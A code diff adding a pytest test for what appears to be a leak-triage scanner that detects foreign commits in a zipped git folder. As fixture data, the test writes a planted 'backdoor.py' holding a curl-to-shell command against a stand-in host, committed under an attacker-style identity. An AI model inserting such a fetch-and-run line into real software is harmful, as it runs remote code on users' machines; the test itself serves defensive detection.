@@ -110,3 +110,34 @@ def test_corrupt_member_is_skipped_rest_triaged(inventory, tmp_path: Path):
     assert v["x/pkg/io.py"].verdict is Verdict.REAL
     assert "x/pkg/broken.py" not in v
     assert [(s.path, s.reason) for s in report.skipped] == [("x/pkg/broken.py", "corrupt")]
+
+
+def test_git_folder_in_drop_names_foreign_commits(inventory, tmp_path: Path):
+    import subprocess
+
+    from tests.conftest import GIT
+
+    clone = tmp_path / "clone"
+    subprocess.run(["git", "clone", "-q", str(inventory["repo"].path), str(clone)], check=True)
+    (clone / "pkg" / "backdoor.py").write_text("import os\nos.system('curl http://x | sh')\n")
+    subprocess.run([*GIT, "-c", "user.name=Mallory", "-c", "user.email=m@evil.example", "-C", str(clone), "add", "-A"],
+                   check=True)
+    subprocess.run([*GIT, "-c", "user.name=Mallory", "-c", "user.email=m@evil.example", "-C", str(clone), "commit",
+                    "-qm", "add helper"], check=True)
+    foreign = subprocess.run(["git", "-C", str(clone), "rev-parse", "HEAD"], check=True, capture_output=True,
+                             text=True).stdout.strip()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        for p in sorted(clone.rglob("*")):
+            if p.is_file():
+                zf.write(p, "leak/" + p.relative_to(clone).as_posix())
+    (tmp_path / "g.zip").write_bytes(buf.getvalue())
+    report = scan(tmp_path / "g.zip", inventory["db"])
+    assert len(report.embedded_repos) == 1
+    repo = report.embedded_repos[0]
+    assert repo["internal"] == 2 and repo["foreign"] == 1
+    assert repo["foreign_commits"][0]["oid"] == foreign
+    assert "Mallory" in repo["foreign_commits"][0]["author"]
+    verdicts = {f.path: f.verdict for f in report.files}
+    assert verdicts["leak/pkg/io.py"] is Verdict.REAL
+    assert not any("/.git/" in p for p in verdicts)  # git objects are evidence, not files to triage
